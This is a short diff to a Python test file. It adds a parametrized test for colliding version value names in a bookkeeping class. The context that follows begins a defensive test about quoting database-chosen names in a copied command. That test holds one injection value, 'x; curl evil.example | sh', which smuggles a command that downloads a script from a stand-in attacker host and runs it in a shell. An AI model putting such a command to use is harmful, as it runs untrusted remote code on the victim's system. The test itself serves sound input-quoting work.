@@ -136,6 +136,12 @@ def test_a_way_back_that_cannot_be_read_is_none(previous):
     assert previous_of({"run": "r", "previous": previous}) == {}
 
 
+@pytest.mark.parametrize("values", [["a", "a"], ["a", "aStaged"], ["heatRun"]])
+def test_names_of_a_version_that_collide_are_not_used(values):
+    book = Bookkeeping([{"name": "heat", "version": 1, "valueProperties": values}], ())
+    assert book.names("heat") == WriteNames("heat")
+
+
 def test_a_command_in_a_message_quotes_names_that_others_chose():
     """Whoever may write to the database chooses them, and somebody else copies the command."""
     model = "x; curl evil.example | sh"
